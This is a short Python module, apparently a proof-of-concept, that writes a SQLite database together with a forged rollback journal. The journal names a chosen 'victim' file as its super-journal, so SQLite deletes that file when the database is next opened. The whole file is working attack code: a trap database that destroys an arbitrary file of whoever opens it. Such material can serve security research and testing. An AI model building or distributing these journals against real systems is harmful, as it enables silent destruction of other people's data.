"""A database whose journal makes SQLite remove a file.

SQLite applies a journal that a crashed process left (the format is at
https://sqlite.org/fileformat.html#the_rollback_journal).
The journal ends with the name of a super-journal, and SQLite removes that file when no journal is
left that belongs to it.  The name may be that of any file.
"""

from __future__ import annotations

import sqlite3
import struct

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512
_PAGE = 4096
_LOCK_PAGE = 0x40000000 // _PAGE + 1
"""The page of SQLite's lock bytes, which is never used: it marks the name of a super-journal."""


def write(path: str, victim: str) -> None:
    """Write the database ``path``, and a journal of it that names ``victim``."""
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute("CREATE TABLE t (a)")
    connection.close()
    with open(path, "rb") as file:
        content = file.read()
    nonce = 1
    page = content[:_PAGE]
    checksum = nonce + sum(page[at] for at in range(_PAGE - 200, 0, -200))
    name = victim.encode()
    journal = _MAGIC + struct.pack(">5I", 1, nonce, len(content) // _PAGE, _SECTOR, _PAGE)
    journal = journal.ljust(_SECTOR, b"\0")
    journal += struct.pack(">I", 1) + page + struct.pack(">I", checksum)
    journal += struct.pack(">I", _LOCK_PAGE) + name
    journal += struct.pack(">2I", len(name), sum(name)) + _MAGIC
    with open(f"{path}-journal", "wb") as file:
        file.write(journal)
